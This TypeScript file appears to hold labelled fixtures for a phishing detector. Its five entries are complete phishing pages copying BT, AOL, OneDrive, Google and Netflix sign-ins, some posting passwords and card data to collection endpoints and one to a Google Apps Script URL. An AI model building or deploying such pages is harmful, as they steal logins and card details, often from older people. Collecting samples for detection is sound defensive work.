/**
 * yi- mail, cloud, social, streaming and games account kits from the helpline's caseload.
 */
import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { doc, xorHex } from '../parts/yi-kit.js';

export const entries: Entry[] = [
{
  id: 'yi-btmail-mailbox-full-webmail',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://bt-mail.login-update.co/btmail/quota/index.php?email=margaret.hughes1947@btinternet.com',
  body: doc({
    title: 'BT Email - Sign in',
    css: `*{box-sizing:border-box}body{margin:0;font-family:"BT Curve",Arial,sans-serif;background:#f5f5f5;color:#333}
.hdr{background:#5514b4;padding:14px 28px;color:#fff;font-weight:700;font-size:22px}.hdr span{display:inline-block;width:34px;height:34px;border-radius:50%;background:#fff;color:#5514b4;text-align:center;line-height:34px;margin-right:10px}
.box{max-width:440px;margin:36px auto;background:#fff;padding:30px;border-radius:4px;box-shadow:0 1px 3px #0002}
.bar{height:14px;background:#eee;border-radius:7px;overflow:hidden;margin:8px 0 4px}.bar div{width:98%;height:100%;background:#e60050}
label{display:block;margin:14px 0 5px;font-weight:700;font-size:14px}input{width:100%;padding:11px;border:1px solid #999;font-size:16px}
button{margin-top:20px;width:100%;background:#5514b4;color:#fff;border:0;padding:13px;font-size:16px;border-radius:3px}
.sm{font-size:12px;color:#666}`,
    body: `<div class="hdr"><span>BT</span>Email</div>
<div class="box">
<h2>Your mailbox is almost full</h2>
<div class="bar"><div></div></div><p class="sm">980 MB of 1 GB used</p>
<p>New emails to <b id="em"></b> are being returned to sender. Sign in to upgrade your free storage to 10 GB and release 14 held messages.</p>
<form method="post" action="next.php">
<label for="e">BT ID (email address)</label><input id="e" name="email" type="email">
<label for="p">Password</label><input id="p" name="password" type="password">
<button>Sign in and upgrade</button></form>
<p class="sm">© British Telecommunications plc 2025</p></div>
<script>
var q=new URLSearchParams(location.search).get('email')||'';document.getElementById('em').textContent=q;document.getElementById('e').value=q;
</script>`,
  }),
  routes: {
    'bt-mail.login-update.co/btmail/quota/next.php': htmlRoute(doc({
      title: 'BT Email - Sign in',
      body: `<div style="font-family:Arial;max-width:440px;margin:40px auto"><p style="color:#c00">The password you entered is incorrect. Please try again.</p><form method="post" action="next2.php"><input name="email" type="email"><br><br><input name="password" type="password"><br><br><button>Sign in</button></form></div>`,
    })),
  },
},
{
  id: 'yi-aol-mail-verify-account-kit',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://aol-mail-security.help/account/challenge/password',
  body: doc({
    title: 'AOL',
    lang: 'en-US',
    css: `body{margin:0;font-family:"Helvetica Neue",Helvetica,Arial,sans-serif;background:#fff;color:#26282a}
.top{padding:18px 30px;font-size:32px;font-weight:800;letter-spacing:-1px}
.box{width:360px;margin:20px auto;border:1px solid #e0e4e9;border-radius:4px;padding:36px 30px;box-shadow:0 2px 4px #0001}
input{width:100%;border:0;border-bottom:1px solid #cdcdcd;padding:10px 0;font-size:16px;margin:14px 0;box-sizing:border-box}
button{width:100%;background:#39f;color:#fff;border:0;padding:13px;border-radius:22px;font-size:16px;font-weight:700}
.sm{font-size:13px;color:#5b636a}`,
    body: `<div class="top">Aol.</div>
<div class="box"><h2>Verify it’s you</h2><p class="sm">Due to inactivity your AOL Mail account will be closed in 24 hours. Sign in to keep your account and 12 years of emails.</p>
<form id="f" method="post" action="/account/challenge/post.php"><input name="username" placeholder="Username, email, or mobile"><input name="passwd" type="password" placeholder="Password"><button>Next</button>
<p class="sm"><input type="checkbox" checked style="width:auto;margin:0"> Stay signed in</p></form>
<p class="sm"><a href="#">Forgot username?</a></p></div>
<script>
document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();var d=new URLSearchParams(new FormData(this));
fetch('https://script.google.com/macros/s/AKfycbx8yZk3N1vQ7Rt2uLm0wPq4Hs9GdEa6cJiB5oTn/exec',{method:'POST',mode:'no-cors',body:d}).then(function(){location.href='https://mail.aol.com/'})});
</script>`,
  }),
},
{
  id: 'yi-onedrive-pension-statement-o365',
  label: 'phishing',
  kind: 'cloud-share-kit',
  url: 'https://pensionsadvice-uk.sharepoint-docs.app/Pension_Statement_2024/view.html#bWFyeS5vY29ubm9yQGVpcmNvbS5uZXQ=',
  body: doc({
    title: 'OneDrive - Pension_Statement_2024.pdf',
    css: `*{box-sizing:border-box}body{margin:0;font-family:"Segoe UI",Tahoma,sans-serif;background:#faf9f8}
.bar{background:#0364b8;color:#fff;padding:10px 20px;font-size:16px}
.doc{filter:blur(5px);max-width:700px;margin:30px auto;background:#fff;padding:40px;height:520px;box-shadow:0 1px 4px #0003}
.ov{position:fixed;inset:0;background:rgba(0,0,0,.35);display:flex;align-items:center;justify-content:center}
.lg{background:#fff;width:440px;padding:44px;box-shadow:0 2px 6px #0004}
.ms{display:flex;gap:3px;margin-bottom:16px}.ms i{width:10px;height:10px;display:block}
input{width:100%;border:0;border-bottom:1px solid #666;padding:8px 0;font-size:15px;margin:10px 0}
button{background:#0067b8;color:#fff;border:0;padding:8px 30px;float:right;font-size:15px}
.err{color:#e81123;font-size:14px;display:none}`,
    body: `<div class="bar">OneDrive · Shared with you</div>
<div class="doc"><h2>Annual Pension Benefit Statement</h2><p>Scheme member: ...</p><p>Projected annual pension at age 67 ...</p><p>Transfer value ...</p></div>
<div class="ov"><div class="lg">
<div class="ms"><i style="background:#f25022"></i><i style="background:#7fba00"></i><i style="background:#00a4ef"></i><i style="background:#ffb900"></i> <b style="margin-left:8px;font-size:15px">Microsoft</b></div>
<h2 style="font-weight:600;margin:0 0 6px">Sign in to view document</h2>
<p style="font-size:13px">This document is protected. Confirm the email address it was shared with.</p>
<form id="ms"><input id="em" type="email" name="login" placeholder="Email, phone, or Skype"><input id="pw" type="password" name="passwd" placeholder="Password"><p class="err" id="er">Your account or password is incorrect. If you don't remember your password, reset it now.</p><button>Sign in</button></form>
</div></div>
<script>
var h=location.hash.slice(1);try{if(h)document.getElementById('em').value=atob(h)}catch(x){}
var n=0;document.getElementById('ms').onsubmit=function(e){e.preventDefault();n++;
var b=new FormData(this);b.append('try',n);b.append('ref',document.referrer);
fetch('https://pensionsadvice-uk.sharepoint-docs.app/Pension_Statement_2024/next.php',{method:'POST',body:b}).then(function(){
 if(n<2){document.getElementById('er').style.display='block';document.getElementById('pw').value=''}else{location.href='https://www.office.com/'}
})};
</script>`,
  }),
},
{
  id: 'yi-google-photos-grandkids-album-signin',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://photos-google.shared-album.link/share/AF1QipN7x/christmas-with-the-grandkids',
  body: doc({
    title: 'Sign in - Google Accounts',
    lang: 'en-US',
    css: `body{margin:0;font-family:"Google Sans",Roboto,Arial,sans-serif;background:#fff;color:#202124}
.w{width:450px;margin:60px auto;border:1px solid #dadce0;border-radius:8px;padding:48px 40px 36px}
.g{font-size:24px;font-weight:500;letter-spacing:-1px}.g b:nth-child(1){color:#4285f4}.g b:nth-child(2){color:#ea4335}.g b:nth-child(3){color:#fbbc05}.g b:nth-child(4){color:#4285f4}.g b:nth-child(5){color:#34a853}.g b:nth-child(6){color:#ea4335}
h1{font-weight:400;font-size:24px;margin:16px 0 8px}.s{font-size:16px;margin-bottom:30px}
.thumbs{display:flex;gap:6px;margin-bottom:20px}.thumbs div{width:70px;height:70px;border-radius:6px;background:linear-gradient(135deg,#fbd3a5,#90c2f5)}
input{width:100%;padding:14px;border:1px solid #dadce0;border-radius:4px;font-size:16px;box-sizing:border-box;margin-bottom:16px}
button{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 24px;font-size:14px;float:right}`,
    body: `<div class="w"><div class="g"><b>G</b><b>o</b><b>o</b><b>g</b><b>l</b><b>e</b></div>
<h1>Sign in</h1><div class="s">Sarah shared 48 photos with you: <b>Christmas with the grandkids 🎄</b></div>
<div class="thumbs"><div></div><div></div><div></div><div></div></div>
<form method="post" action="/share/AF1QipN7x/signin.php" id="gf">
<input name="identifier" type="email" placeholder="Email or phone" required>
<input name="Passwd" type="password" placeholder="Enter your password" required>
<a href="#" style="font-size:14px;color:#1a73e8">Forgot password?</a><br><br><button>Next</button></form></div>`,
  }),
},
{
  id: 'yi-netflix-payment-declined-card',
  label: 'phishing',
  kind: 'streaming-kit',
  url: 'https://netflix-billing-update.uk-account.help/YourAccount/payment',
  body: doc({
    title: 'Netflix - Update Payment',
    css: `body{margin:0;font-family:"Netflix Sans",Helvetica,Arial,sans-serif;background:#fff;color:#333}
.h{padding:20px 40px;border-bottom:1px solid #e6e6e6}.h b{color:#e50914;font-size:34px;letter-spacing:-1px}
.m{max-width:440px;margin:30px auto;padding:0 20px}h1{font-size:28px}.w{background:#fff3f3;border-left:4px solid #e50914;padding:10px 14px}
label{display:block;font-size:14px;margin:14px 0 4px}input{width:100%;padding:14px 10px;border:1px solid #8c8c8c;border-radius:2px;font-size:16px;box-sizing:border-box}
.r{display:flex;gap:10px}button{width:100%;background:#e50914;color:#fff;border:0;padding:16px;font-size:20px;margin-top:22px;border-radius:4px}`,
    body: `<div class="h"><b>NETFLIX</b></div>
<div class="m"><h1>Update your payment information</h1>
<p class="w">We were unable to process your last payment of £10.99. Your membership will be suspended unless you update your details within 48 hours.</p>
<form method="post" action="/YourAccount/billing.php">
<label>Name on card</label><input name="holder" autocomplete="cc-name">
<label>Card number</label><input name="cardnum" autocomplete="cc-number" inputmode="numeric">
<div class="r"><div><label>Expiry date</label><input name="expiry" placeholder="MM/YY"></div><div><label>CVV</label><input name="cvv" maxlength="4"></div></div>
<label>Date of birth</label><input name="dob" placeholder="DD/MM/YYYY">
<label>Billing postcode</label><input name="zip">
<button>Save</button></form></div>`,
  }),
},
];
